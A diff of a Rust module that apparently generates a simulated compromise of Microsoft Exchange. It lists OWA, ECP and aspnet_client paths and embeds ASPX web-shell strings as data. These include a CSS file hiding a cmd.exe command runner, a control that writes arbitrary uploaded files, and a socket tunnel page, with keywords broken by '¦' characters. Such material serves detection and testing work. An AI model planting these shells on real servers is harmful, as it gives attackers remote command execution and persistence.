@@ -1,32 +1,27 @@
 //! What the fresh set plants: places, texts that hide, and places that hide.
 
+use crate::attack::Place;
 use crate::attack::odd_page::OddPage;
-use crate::attack::{Below, Place};
 use crate::moment::Moment;
 use crate::server::Encoding;
 use crate::technique::Technique;
 
-const fn product(folder: &'static str, url: &'static str, protocol: &'static str) -> Place {
-    Place { below: Below::Product, folder, url, protocol: Some(protocol) }
-}
-
-const fn site(folder: &'static str, url: &'static str) -> Place {
-    Place { below: Below::Site, folder, url, protocol: None }
-}
-
-pub(super) const SIGN_IN: Place = product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
-pub(super) const CURRENT: Place = product("FrontEnd\\HttpProxy\\owa\\auth\\Current", "/owa/auth/Current", "Owa");
+pub(super) const SIGN_IN: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
+pub(super) const CURRENT: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth\\Current", "/owa/auth/Current", "Owa");
 pub(super) const CURRENT_SCRIPTS: Place =
-    product("FrontEnd\\HttpProxy\\owa\\auth\\Current\\scripts", "/owa/auth/Current/scripts", "Owa");
-pub(super) const ADMIN_AUTH: Place = product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
+    Place::product("FrontEnd\\HttpProxy\\owa\\auth\\Current\\scripts", "/owa/auth/Current/scripts", "Owa");
+pub(super) const ADMIN_AUTH: Place = Place::product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
 pub(super) const SYSTEM_WEB_4: Place =
-    site("aspnet_client\\system_web\\4_0_30319", "/aspnet_client/system_web/4_0_30319");
-const THEMES: Place =
-    product("FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes\\resources", "/owa/auth/Current/themes/resources", "Owa");
-const REMOTE_CALLS: Place = product("FrontEnd\\HttpProxy\\rpc", "/rpc", "RpcHttp");
-const CHALLENGES: Place = site(".well-known\\acme-challenge", "/.well-known/acme-challenge");
-const CLIENT: Place = site("aspnet_client", "/aspnet_client");
-const ROOT: Place = site("", "");
+    Place::site("aspnet_client\\system_web\\4_0_30319", "/aspnet_client/system_web/4_0_30319");
+const THEMES: Place = Place::product(
+    "FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes\\resources",
+    "/owa/auth/Current/themes/resources",
+    "Owa",
+);
+const REMOTE_CALLS: Place = Place::product("FrontEnd\\HttpProxy\\rpc", "/rpc", "RpcHttp");
+const CHALLENGES: Place = Place::site(".well-known\\acme-challenge", "/.well-known/acme-challenge");
+const CLIENT: Place = Place::site("aspnet_client", "/aspnet_client");
+const ROOT: Place = Place::site("", "");
 
 /// A page that carries connections inside; the engine behind its greeting is left out.
 pub(super) const TUNNEL: &str = "<%@ Page Language=\"C#\" EnableSessionState=\"True\"%>\r\n<%@ Import Namespace=\"System.Net.Sockets\" %>\r\n\
@@ -150,7 +145,7 @@ pub(super) const ODD_PLACES: [OddPage; 8] = [
         "@charset \"UTF-8\";\r\n/*\r\n<%@ Page Language=\"C#\" %>\r\n<%if(Req¦uest[\"ff\"]!=null)System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"ff\"]);%>\r\n*/\r\nbody{font-family:\"Segoe UI\",Arial}\r\n",
     ),
     OddPage::new(
-        site("aspnet_client\\system_web", "/aspnet_client/system_web"),
+        Place::site("aspnet_client\\system_web", "/aspnet_client/system_web"),
         "Thumbs.ascx",
         "a control that other pages can take in",
         "<%@ Control Language=\"C#\" ClassName=\"Thumbs\" %><scr¦ipt runat=\"ser¦ver\">protected override void OnInit(EventArgs e){if(Req¦uest[\"th\"]!=null)System.IO.File.Write¦AllBytes(Req¦uest[\"at\"],Convert.From¦Base64String(Req¦uest[\"th\"]));}</scr¦ipt>",
